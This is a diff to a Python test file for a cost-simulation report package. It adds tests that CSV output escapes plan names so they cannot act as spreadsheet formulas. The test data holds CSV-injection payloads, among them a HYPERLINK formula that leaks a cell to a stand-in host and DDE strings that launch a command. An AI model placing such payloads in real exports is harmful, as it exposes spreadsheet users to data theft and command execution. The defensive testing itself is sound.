@@ -4,6 +4,7 @@ images, markup and formulas kept as text, and writes that are atomic and stay in
 from __future__ import annotations
 
 import csv
+import io
 import json
 import os
 import xml.etree.ElementTree as ET
@@ -16,12 +17,14 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
+from costsim.domain.display import csv_cell
 from costsim.report import summary_json, write_report
 from costsim.report.charts import CHART_SUBJECTS, build_charts, missing_charts
 from costsim.report.compare import compare_plans
 from costsim.report.files import write_atomic
 from costsim.report.html import report_html
-from costsim.report.tables import LEDGER_COLUMNS
+from costsim.report.tables import LEDGER_COLUMNS, Table
+from costsim.report.write import csv_bytes
 from costsim.sim.run_result import RunResult, simulate_scenario
 from tests.report.runs import FORMULA_NAME, SCRIPT_NAME, report_scenario
 
@@ -51,9 +54,10 @@ def test_the_ledger_csv_adds_up_to_each_plans_mean_cost_to_the_cent(
     assert list(rows[0]) == ["plan", "phase", "pool", "gpu", "option", "category",
                              "component", "gpu_hours", "rate_usd_per_gpu_hour", "amount_usd"]
     for plan in _feasible(summary):
-        total = sum(Decimal(r["amount_usd"]) for r in rows if r["plan"] == plan["name"])
+        total = sum(Decimal(r["amount_usd"]) for r in rows if r["plan"] == csv_cell(plan["name"]))
         assert total == Decimal(f"{plan['cost_usd']['mean']:.2f}"), plan["name"]
-    assert {r["plan"] for r in rows} == {p["name"] for p in _feasible(summary)}
+    assert {r["plan"] for r in rows} == {csv_cell(p["name"]) for p in _feasible(summary)}
+    assert "'" + FORMULA_NAME in {r["plan"] for r in rows}  # text, not a formula
 
 
 def test_the_monthly_csv_adds_up_to_each_plans_cash(report_dir: Path,
@@ -61,7 +65,7 @@ def test_the_monthly_csv_adds_up_to_each_plans_cash(report_dir: Path,
     with (report_dir / "monthly.csv").open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
     for plan in _feasible(summary):
-        mine = [r for r in rows if r["plan"] == plan["name"]]
+        mine = [r for r in rows if r["plan"] == csv_cell(plan["name"])]
         assert len(mine) == 18
         assert sum(Decimal(r["cash_usd"]) for r in mine) == Decimal(
             f"{plan['cash_usd']['mean']:.2f}")
@@ -106,6 +110,28 @@ def test_a_plan_named_like_a_formula_stays_text_in_the_workbook(report_dir: Path
     formula = [cell for cell in cells if cell.value == FORMULA_NAME]
     assert formula
     assert all(cell.data_type == "s" for cell in formula)
+
+
+HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "\t=1+1", "plan, with a comma",
+                 'plan "quoted"')
+
+
+def test_no_csv_cell_can_run_in_a_spreadsheet_and_numbers_stay_numbers() -> None:
+    """OWASP's CSV-injection rule: a text cell starting with = + - @ tab or CR gets a quote in
+    front; a credit such as a residual value (-531.11) stays a number."""
+    rows = tuple((name, "train", "", "H100", "owned", "residual-value", "gpu", 0.0, 0.0,
+                  -531.11) for name in HOSTILE_NAMES)
+    data = csv_bytes(Table("ledger", "Ledger", LEDGER_COLUMNS, rows)).decode("utf-8")
+    read = list(csv.reader(io.StringIO(data, newline="")))[1:]
+    assert [row[0] for row in read] == [
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+2", "'\t=1+1", "plan, with a comma",
+        'plan "quoted"']
+    assert {row[-1] for row in read} == {"-531.11"}
+    for row in read:
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+        assert all(cell == "-531.11" or not cell.startswith("-") for cell in row)
 
 
 def test_markup_in_scenario_text_is_escaped_in_the_html(report_dir: Path) -> None:
